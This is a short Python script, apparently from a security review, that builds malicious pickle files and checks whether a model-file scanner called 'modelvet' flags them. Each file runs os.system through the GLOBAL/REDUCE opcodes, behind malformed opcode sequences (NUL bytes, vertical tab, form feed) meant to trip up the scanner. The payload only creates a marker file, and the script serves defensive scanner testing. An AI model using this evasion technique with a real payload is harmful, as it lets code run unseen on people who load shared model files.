import subprocess, json, os
def payload(name):
    return b"cos\nsystem\n(S'touch /tmp/rt16/pwned_%s'\ntR." % name.encode()
cases = {
 "put_nul": b"]p1\x00zz\n0",
 "get_nul": b"]p1\n0g1\x00zz\n0",
 "put_vt": b"]p\x0b1\n0",
 "put_octal_ok": b"]p010\n0g10\n0",
 "int_ff_ok": b"I\x0c7\n0",
}
for tag, pre in cases.items():
    d = pre + payload(tag)
    fn = f"fn_vm_{tag}.pkl"; open(fn,"wb").write(d)
    try: os.remove(f"/tmp/rt16/pwned_{tag}")
    except FileNotFoundError: pass
    r = subprocess.run(["/tmp/rt15/venv/bin/python","-c","import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",fn],capture_output=True,text=True)
    pw = os.path.exists(f"/tmp/rt16/pwned_{tag}")
    s = subprocess.run(["/tmp/review16/modelvet","scan","--format","json",fn],capture_output=True,text=True)
    j=json.loads(s.stdout); f=j["files"][0]; summ=f"{f['format']} {f.get('max_severity')} "+";".join(x['rule']+'/'+x['severity'] for x in f['findings'])
    print(f"{tag:14} pwned={pw} {r.stderr.strip()[-60:]} | mv exit={s.returncode} {summ[:150]}")
